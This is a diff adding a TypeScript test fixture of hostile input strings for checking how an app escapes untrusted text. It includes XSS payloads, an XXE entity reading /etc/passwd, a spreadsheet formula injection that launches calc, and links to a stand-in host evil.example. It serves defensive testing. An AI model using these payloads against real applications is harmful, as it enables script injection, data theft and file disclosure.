@@ -1,0 +1,165 @@
+/** What somebody may write where a name or a sentence is expected. Whatever runs sets `window.hit`. */
+
+const RUN = 'window.hit=1'
+
+const MARKUP = [
+  `<script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x onerror="${RUN}"//`,
+  `"><img src=x onerror=${RUN}>`,
+  `'><svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
+  `<iframe src="javascript:parent.hit=1"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="//evil.example/x.swf">`,
+  `<a href="javascript:${RUN}">lien</a>`,
+  `<form action="//evil.example"><input name=q><button>Ok</button></form>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<body onload=${RUN}>`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<style>*{display:none}</style>`,
+  `<div style="position:fixed;inset:0;background:red">x</div>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<textarea></textarea><script>${RUN}</script>`,
+  `<title></title><script>${RUN}</script>`,
+  `<!--><script>${RUN}</script-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `]]><script>${RUN}</script>`,
+  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
+  `</title></head><body><h1>Fin</h1>`,
+  `</main></body></html>`,
+  `</style></script></template></textarea>`,
+  `<b>gras</b> & <i>italique</i>`,
+  `<table><tr><td>x</table>`,
+  `<h1>Un autre titre</h1>`,
+]
+
+const ATTRIBUTES = [
+  `" onmouseover="${RUN}" x="`,
+  `' onmouseover='${RUN}' x='`,
+  `" autofocus onfocus="${RUN}`,
+  '` onmouseover=`x',
+  `"/><script>${RUN}</script>`,
+  '" style="position:fixed;inset:0',
+  '" data-chart="{}" hidden x="',
+  '&quot; onclick=&quot;x',
+  '&lt;script&gt;',
+  '&#60;script&#62;',
+  '&amp;amp;',
+  '&nosuchentity;',
+  '\\u003cscript\\u003e',
+  '${7*7}',
+  '{{7*7}}',
+  '<%= 7*7 %>',
+  '%3Cscript%3E',
+]
+
+const DIRECTIONS = [
+  '\u202egnirts\u202c fin',
+  '\u202e sans fin de renversement',
+  '\u2066isolé',
+  '\u2067\u2067\u2067\u2067 isolés',
+  '\u200fde droite à gauche\u200f',
+  'مرحبا بكم في السجل',
+  'שלום עולם 123 abc',
+  '\u061c\u202b\u202a\u202d',
+]
+
+const UNSEEN = [
+  'z\u200be\u200br\u200bo',
+  '\u200b',
+  '\ufeffau début',
+  'a\u00adb\u00adc\u00add',
+  '\u2060\u2060',
+  'nul\ufffd',
+  'cloche\u0007 et retour\u0008',
+  'escape\u001b[31mrouge\u001b[0m',
+  'tab\tulation',
+  'lignes\nde\r\nsuite',
+  'séparateurs\u2028de\u2029lignes',
+  '\u0085suite',
+  'fin\u000c\u000bde page',
+  '\u{e0041}\u{e0042}étiquette',
+  '\udc00 demi',
+]
+
+const LONG = [
+  'a'.repeat(400),
+  'W'.repeat(200),
+  'mot-avec-traits'.repeat(30),
+  'chemin/vers/un/fichier/'.repeat(20),
+  'sous_tirets_'.repeat(30),
+  '漢字'.repeat(150),
+  '👩‍👩‍👧‍👦'.repeat(60),
+  `${'phrase '.repeat(150)}fin`,
+  '1234567890'.repeat(30),
+  '.'.repeat(300),
+  '\u00a0'.repeat(200),
+]
+
+const PICTURES = ['🏛️🌳🚲', '👩🏽‍💻 code', '🇫🇷🇬🇧', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘', 'é́́́́́́́́', '﷽﷽﷽﷽']
+
+const FORMULAS = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example","x")',
+  '+1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '"=1+1"',
+  '= 1;2,3\n=4',
+  '＝1+1',
+]
+
+const CALENDAR = [
+  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:faux',
+  'x\nATTACH:https://evil.example/x',
+  'a;b,c\\d:e"f',
+  'DTSTART:20260101',
+]
+
+export const HOSTILE_STRINGS: readonly string[] = [
+  ...MARKUP,
+  ...ATTRIBUTES,
+  ...DIRECTIONS,
+  ...UNSEEN,
+  ...LONG,
+  ...PICTURES,
+  ...FORMULAS,
+  ...CALENDAR,
+]
+
+export const HOSTILE_ADDRESSES: readonly string[] = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `vbscript:msgbox(1)`,
+  '//evil.example/x',
+  '\\\\evil.example\\x',
+  `https://a.example/"><script>${RUN}</script>`,
+  `https://a.example/' onmouseover='${RUN}`,
+  'https://user:password@a.example/',
+  'http://[',
+  'https://',
+  '',
+  'file:///etc/passwd',
+  'blob:https://a.example/x',
+  `https://a.example/${'x'.repeat(400)}`,
+  'https://xn--80ak6aa92e.example/',
+  'nothing at all',
+]
